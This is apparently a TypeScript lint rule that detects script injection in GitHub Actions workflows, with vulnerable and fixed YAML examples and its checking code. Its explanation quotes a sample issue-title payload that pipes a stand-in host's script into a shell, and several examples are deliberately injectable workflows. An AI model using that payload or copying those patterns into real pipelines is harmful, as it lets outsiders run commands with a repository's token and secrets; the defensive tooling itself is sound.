import { type Finding, rule } from '../../core/rule';
import type { SourceFile } from '../../core/text';
import { codeOf } from '../../formats/github-actions/code-input';
import { type Injection, injectionsElsewhere, pastedInto } from '../../formats/github-actions/pasted';
import { asksWho } from '../../formats/github-actions/taint';
import { environmentFixes } from '../../formats/github-actions/to-environment';

export default rule({
  id: 'github-actions/script-injection',
  title: 'Text of strangers pasted into a script',
  why: [
    'The runner replaces `${{ … }}` before any shell sees the script. Whoever opens an issue or a pull request chooses its title, text and branch name; with a title such as `"; curl evil.example | sh; "` the job runs their commands, with its token and its secrets.',
    'In an environment variable the same text is only text: the shell reads it as one value and runs none of it.',
  ],
  severity: 'error',
  practice: 'delivery',
  since: '0.1.0',
  fixes: ['safe', 'suggested'],
  equivalents: [
    'actionlint:expression',
    'zizmor:template-injection',
    'kics:Run Block Injection',
    'kics:Script Block Injection',
    'checkov:CKV_GHA_2',
    'poutine:injection',
    'semgrep:run-shell-injection',
    'semgrep:github-script-injection',
  ],
  links: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
  ],
  bad: [
    {
      title: 'in a shell script',
      files:
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Greet\n        run: |\n          echo "New: «${{ github.event.issue.title }}»"\n          ./notify --text "${{ github.event.issue.title }}s"\n',
      fixed:
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Greet\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n        run: |\n          echo "New: $ISSUE_TITLE"\n          ./notify --text "${ISSUE_TITLE}s"\n',
    },
    {
      title: 'without quotes, as the only key of the step',
      files:
        'on: pull_request_target\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git log «${{ github.head_ref }}»\n',
      fixed:
        'on: pull_request_target\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          HEAD_REF: ${{ github.head_ref }}\n        run: git log "$HEAD_REF"\n',
    },
    {
      title: 'in single quotes, in YAML in double quotes, beside a variable that is there',
      files:
        'on: issue_comment\njobs:\n  reply:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          LEVEL: info\n        run: "echo \'«${{ github.event.comment.body }}»\' | ./log"\n',
      fixed:
        'on: issue_comment\njobs:\n  reply:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          LEVEL: info\n          COMMENT_BODY: ${{ github.event.comment.body }}\n        run: "echo \\"$COMMENT_BODY\\" | ./log"\n',
    },
    {
      title: 'by way of a variable, which is pasted in again',
      files:
        'on: issues\nenv:\n  TITLE: ${{ github.event.issue.title }}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "«${{ env.TITLE }}»"\n',
      fixed:
        'on: issues\nenv:\n  TITLE: ${{ github.event.issue.title }}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n',
    },
    {
      title: 'in a program for github-script',
      files:
        "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: |\n            const title = '«${{ github.event['issue'].title }}»';\n            console.log(`«${{ format('Text: {0}', github.event.issue.body) }}»!`);\n",
      fixed:
        "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v8\n        env:\n          ISSUE_TITLE: ${{ github.event['issue'].title }}\n          ISSUE_BODY: \"${{ format('Text: {0}', github.event.issue.body) }}\"\n        with:\n          script: |\n            const title = process.env.ISSUE_TITLE;\n            console.log(`${process.env.ISSUE_BODY}!`);\n",
    },
    {
      title: 'in PowerShell and in Python',
      files:
        'on: pull_request_target\njobs:\n  windows:\n    runs-on: windows-latest\n    steps:\n      - run: Write-Host "From «${{ github.head_ref }}»"\n  python:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        run: |\n          print("«${{ github.event.pull_request.title }}»")\n',
      fixed:
        'on: pull_request_target\njobs:\n  windows:\n    runs-on: windows-latest\n    steps:\n      - env:\n          HEAD_REF: ${{ github.head_ref }}\n        run: Write-Host "From ${env:HEAD_REF}"\n  python:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: |\n          import os\n          print(os.environ["PR_TITLE"])\n',
    },
    {
      title: 'where a variable would be run all the same',
      files:
        'on: [push, discussion]\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash -c "echo «${{ github.event.head_commit.message }}»"\n      - run: eval «${{ toJSON(github.event.discussion) }}»\n',
    },
    {
      title: 'in a composite action',
      files: {
        '.github/actions/greet/action.yml':
          'name: Greet\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo "«${{ github.event.issue.title }}»"\n',
      },
      fixed: {
        '.github/actions/greet/action.yml':
          'name: Greet\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        ISSUE_TITLE: ${{ github.event.issue.title }}\n      run: echo "$ISSUE_TITLE"\n',
      },
    },
    {
      title: 'by way of an output of a step and of a job',
      files: `on: issues
jobs:
  read:
    runs-on: ubuntu-latest
    outputs:
      title: \${{ steps.issue.outputs.title }}
    steps:
      - id: issue
        env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
      - run: echo "«\${{ steps.issue.outputs.title }}»"
  greet:
    needs: read
    runs-on: ubuntu-latest
    steps:
      - run: echo "«\${{ needs.read.outputs.title }}»"
`,
      fixed: `on: issues
jobs:
  read:
    runs-on: ubuntu-latest
    outputs:
      title: \${{ steps.issue.outputs.title }}
    steps:
      - id: issue
        env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
      - env:
          ISSUE_TITLE: \${{ steps.issue.outputs.title }}
        run: echo "$ISSUE_TITLE"
  greet:
    needs: read
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: \${{ needs.read.outputs.title }}
        run: echo "$ISSUE_TITLE"
`,
    },
    {
      title: 'handed to an action of the repository that runs it',
      files: {
        '.github/workflows/greet.yml': `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v6
      - uses: ./.github/actions/greet
        with:
          text: «\${{ github.event.issue.title }}»
`,
        '.github/actions/greet/action.yml': `name: Greet
inputs:
  text:
    required: true
runs:
  using: composite
  steps:
    - shell: bash
      run: echo "\${{ inputs.text }}"
`,
      },
      fixed: {
        '.github/workflows/greet.yml': `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v6
      - uses: ./.github/actions/greet
        with:
          text: \${{ github.event.issue.title }}
`,
        '.github/actions/greet/action.yml': `name: Greet
inputs:
  text:
    required: true
runs:
  using: composite
  steps:
    - shell: bash
      env:
        ISSUE_TITLE: \${{ inputs.text }}
      run: echo "$ISSUE_TITLE"
`,
      },
    },
  ],
  good: [
    {
      title: 'an output that another program has made',
      files: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - id: issue
        env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "title=$(echo "$TITLE" | tr -cd a-z)" >> "$GITHUB_OUTPUT"
          echo "length=\${#TITLE}" >> "$GITHUB_OUTPUT"
      - run: echo "\${{ steps.issue.outputs.title }} \${{ steps.issue.outputs.length }}"
`,
    },
    {
      title: 'handed to an action that reads it from its environment',
      files: {
        '.github/workflows/greet.yml': `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/greet
        with:
          text: \${{ github.event.issue.title }}
`,
        '.github/actions/greet/action.yml': `name: Greet
inputs:
  text:
    required: true
runs:
  using: composite
  steps:
    - shell: bash
      env:
        TEXT: \${{ inputs.text }}
      run: echo "$TEXT"
`,
      },
    },
    'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n',
    {
      title: 'numbers, hashes and names that GitHub checks',
      files:
        'on: [pull_request_target, issues]\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.number }} ${{ github.event.pull_request.head.sha }} ${{ github.actor }} ${{ github.ref_name }}"\n',
    },
    {
      title: 'an event that brings no issue',
      files:
        'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n      - if: github.event_name == \'schedule\'\n        run: echo "${{ github.event.head_commit.message }}"\n',
    },
    {
      title: 'only compared, never pasted',
      files:
        "on: pull_request\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ startsWith(github.head_ref, 'release/') && 'release' || 'other' }} ${{ contains(github.event.pull_request.title, 'x') }}\"\n",
    },
    {
      title: 'JSON is a literal of JavaScript',
      files:
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: |\n            const title = ${{ toJSON(github.event.issue.title) }};\n',
    },
    {
      title: 'an input of an action, which is no program',
      files:
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/notify@v1\n        with:\n          text: ${{ github.event.issue.title }}\n',
    },
    {
      title: 'the run came from a branch that is named',
      files:
        'on:\n  workflow_run:\n    workflows: [CI]\n    branches: [main]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.workflow_run.head_branch }}"\n',
    },
  ],
  *check({ file, steps, jobs }, { project }) {
    for (const step of steps) {
      const code = codeOf(step);
      if (code?.scalar.file !== file) continue;
      const groups = pastedInto(code, step);
      const fixes = environmentFixes(step, code, groups);
      for (const [index, [first, ...others]] of groups.entries()) {
        const isSurely = first.events !== undefined && !asksWho(step);
        yield {
          at: first.embedded.at,
          severity: isSurely ? 'error' : 'warning',
          message: `Whoever writes ${first.context.path} can run commands here: it is pasted into the script`,
          fix: fixes[index],
          related: others.map(({ embedded }) => ({ at: embedded.at, message: 'Pasted in here too' })),
        };
      }
    }
    yield* handedOver(injectionsElsewhere({ jobs, steps }, project), file);
  },
});

/** What a local action or workflow that is called here pastes into its scripts, once for each place it is handed over. */
function* handedOver(injections: Iterable<Injection>, file: SourceFile): Generator<Finding> {
  const seen = new Set<number>();
  for (const { from, group, caller, fix } of injections) {
    const [first, ...others] = group;
    if (from.file !== file || seen.has(from.start)) continue;
    seen.add(from.start);
    const isSurely = first.events !== undefined && !asksWho(caller);
    yield {
      at: from,
      severity: isSurely ? 'error' : 'warning',
      message: `Whoever writes ${first.context.path} can run commands in ${first.embedded.at.file.path}: it is pasted into a script`,
      fix,
      related: [first, ...others].map(({ embedded }) => ({ at: embedded.at, message: 'Pasted in here' })),
    };
  }
}
